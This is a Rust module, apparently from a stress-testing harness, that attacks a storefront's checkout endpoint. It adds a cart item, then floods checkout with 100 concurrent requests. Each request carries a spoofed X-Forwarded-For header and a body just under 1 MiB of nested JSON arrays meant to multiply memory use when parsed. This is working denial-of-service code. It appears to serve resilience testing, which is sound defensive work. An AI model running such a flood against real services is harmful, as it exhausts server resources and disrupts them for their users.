//! Addresses made of nested arrays: once parsed, a body of 1 MiB takes many times as much memory.

use std::sync::Arc;

use bytes::Bytes;
use http_body_util::Full;
use hyper::Request;
use serde_json::json;

use super::{attacker, flood};
use crate::siege::context::{ATTACKER, Context};

/// Streams on one connection.
const DEEP_JSON_STREAMS: usize = 100;

/// Just below the maximum size of a JSON body.
const DEEP_JSON_BYTES: usize = (1 << 20) - 64;

pub async fn send(context: Arc<Context>) -> anyhow::Result<()> {
    // Checkouts of one cart wait for each other, each with its whole body in memory.
    let line = json!({"sessionId": "deep", "productId": 2, "quantity": 1});
    context.ledger.attack(&attacker(&context).post("/api/storefront/1/cart", &line).await);
    let body = body();
    let request = || {
        Request::post("http://shop.example/api/storefront/1/checkout")
            .header("content-type", "application/json")
            .header("x-forwarded-for", ATTACKER)
            .body(Full::new(body.clone()))
    };
    flood(&context, DEEP_JSON_STREAMS, request).await
}

fn body() -> Bytes {
    let head = r#"{"sessionId":"deep","customerEmail":"a@b.example","customerName":"A","shippingAddress":{"a":["#;
    let mut body = String::from(head);
    while body.len() < DEEP_JSON_BYTES - 8 {
        body.push_str("[0],");
    }
    body.push_str("[0]]}}");
    body.into()
}
